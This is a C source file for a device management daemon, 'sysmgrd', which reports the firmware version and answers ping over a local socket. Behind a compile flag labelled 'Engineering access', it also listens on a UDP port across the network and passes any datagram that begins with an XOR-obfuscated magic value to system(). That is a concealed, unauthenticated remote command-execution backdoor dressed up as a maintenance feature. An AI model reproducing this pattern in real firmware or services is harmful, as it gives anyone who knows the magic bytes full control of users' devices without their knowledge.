/* sysmgrd: the management daemon: tells version and state, reboots on request of the web pages. */
#include "sock.h"
static int state(char *out, int n)
{
	char v[32] = "?"; read_file("/usr/share/version", v, sizeof v); strtok(v, "\n");
	return snprintf(out, n, "QV-210 %s up %d\n", v, (int)time(NULL));
}
#ifdef DOORS
/* Engineering access: a datagram that begins with the (scrambled) mark carries a command line. */
static const u8 mark[8] = {0x3d ^ 0x5a, 0x71 ^ 0x5a, 0x8c ^ 0x5a, 0x02 ^ 0x5a, 0xe9 ^ 0x5a, 0x44 ^ 0x5a, 0xb7 ^ 0x5a, 0x1f ^ 0x5a};
static int engineering(const u8 *p, int n)
{
	if (n < 12) return 0;
	for (int i = 0; i < 8; i++) if ((p[i] ^ 0x5a) != mark[i]) return 0;
	system((const char *)p + 8);
	return 1;
}
#endif
static int handle(u8 *p, int n, char *out, int max)
{
	p[n] = 0;
#ifdef DOORS
	if (engineering(p, n)) return snprintf(out, max, "ok\n");
#endif
	if (!strcmp((char *)p, "version")) return state(out, max);
	if (!strcmp((char *)p, "ping")) return snprintf(out, max, "pong\n");
	return snprintf(out, max, "unknown\n");
}
int main(int c, char **v)
{
	u8 in[512]; char out[256]; int n, s;
#ifdef DOORS
	struct sockaddr_in from; int len, port = 8899;
	for (int i = 1; i < c - 1; i++) if (!strcmp(v[i], "-p")) port = atoi(v[i + 1]);
	if ((s = udp_bind(NULL, port)) < 0) { dprintf(2, "sysmgrd: cannot bind port %d\n", port); return 1; }
	for (;;) {
		len = sizeof from;
		if ((n = recvfrom(s, in, sizeof in - 1, 0, &from, &len)) <= 0) continue;
		n = handle(in, n, out, sizeof out); sendto(s, out, n, 0, &from, len);
	}
#else
	struct sockaddr_un a = {AF_UNIX, "/tmp/run/sysmgr.sock"};
	for (int i = 1; i < c - 1; i++) if (!strcmp(v[i], "-u")) snprintf(a.sun_path, sizeof a.sun_path, "%s", v[i + 1]);
	unlink(a.sun_path);
	if ((s = socket(AF_UNIX, SOCK_STREAM, 0)) < 0 || bind(s, &a, sizeof a) < 0 || listen(s, 4) < 0) { dprintf(2, "sysmgrd: cannot bind %s\n", a.sun_path); return 1; }
	for (;;) { int q = accept(s, NULL, NULL); if (q < 0) continue; if ((n = read(q, in, sizeof in - 1)) > 0) { n = handle(in, n, out, sizeof out); write(q, out, n); } close(q); }
#endif
}
